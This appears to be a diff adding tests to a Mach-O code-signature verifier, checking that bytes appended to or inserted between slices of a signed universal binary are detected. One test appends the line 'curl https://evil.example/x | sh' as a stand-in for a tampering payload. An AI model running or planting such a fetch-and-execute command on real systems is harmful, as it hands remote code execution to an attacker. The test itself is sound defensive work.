@@ -272,10 +272,46 @@ describe('apple: real Apple Development / Mac Developer signatures', () => {
     expect(r.valid).toBe(false);
     expect(r.reason).toMatch(/^slice x86_64: code page 1 /);
   });
+  it('… bytes outside its slices (appended, or in a gap before or between slices) make it invalid, naming the offset; zero padding does not', async () => {
+    const b = readFileSync(universal);
+    const pol = { teamId: '998Z9C32TC', requireDeveloperId: false };
+    const at = { now: new Date('2018-01-01') };
+    const variant = (name: string, bytes: Buffer) => {
+      const p = tmp(name);
+      writeFileSync(p, bytes);
+      return verify(p, pol, at);
+    };
+    const appended = await variant('appended', Buffer.concat([b, Buffer.from('\n#!/bin/sh\ncurl https://evil.example/x | sh\n'), Buffer.alloc(4096, 0x58)]));
+    expect(appended.valid).toBe(false);
+    expect(appended.reason).toContain(`bytes at offset ${b.length} follow the last slice (x86_64)`);
+    // zeros beyond the last slice's alignment boundary are still bytes no signature covers
+    expect((await variant('appended-zeros', Buffer.concat([b, Buffer.alloc(8192)]))).reason).toContain('follow the last slice');
+    const first = b.readUInt32BE(8 + 8); // the first fat_arch's offset
+    const headerGap = Buffer.from(b);
+    headerGap.fill(0x41, 8 + 2 * 20, first);
+    expect((await variant('header-gap', headerGap)).reason).toContain(`non-zero byte at offset ${8 + 2 * 20}, in the padding before slice i386`);
+    const second = b.readUInt32BE(8 + 20 + 8);
+    const between = Buffer.from(b);
+    between[second - 1] = 0x90;
+    expect((await variant('between', between)).reason).toContain(`non-zero byte at offset ${second - 1}, in the padding before slice x86_64`);
+    // zero padding up to the last slice's alignment (2^12) is what lipo may write: still valid
+    expect((await variant('padded', Buffer.concat([b, Buffer.alloc(4096 - (b.length % 4096))]))).valid).toBe(true);
+  });
   it('a universal .app bundle in a zip (signapple test data)', async () => {
     const r = await verify(join(FIX, 'signapple-test-universal.zip'), { teamId: '3U8RB33R2B', requireDeveloperId: false }, { now: new Date('2021-06-01') });
     expect(r.valid).toBe(true);
     expect(r.signer).toContain('OU=3U8RB33R2B');
+  });
+  it('… its universal main executable with bytes appended is invalid', async () => {
+    const members = await readZip(join(FIX, 'signapple-test-universal.zip'));
+    const exe = member(members, 'signapple-test.app/Contents/MacOS/signapple-test');
+    const size = exe.data.length;
+    exe.data = Buffer.concat([exe.data, Buffer.alloc(20_000, 0x41)]);
+    const out = tmp('signapple-appended.zip');
+    await writeZip(out, members);
+    const r = await verify(out, { teamId: '3U8RB33R2B', requireDeveloperId: false }, { now: new Date('2021-06-01') });
+    expect(r.valid).toBe(false);
+    expect(r.reason).toContain(`20000 bytes at offset ${size} follow the last slice`);
   });
   it('a thin Mach-O, pinned by Team ID', async () => {
     const r = await verify(join(FIX, 'signed-with-teamid'), { teamId: 'EQHXZ8M8AV', requireDeveloperId: false }, { now: new Date('2021-06-01') });
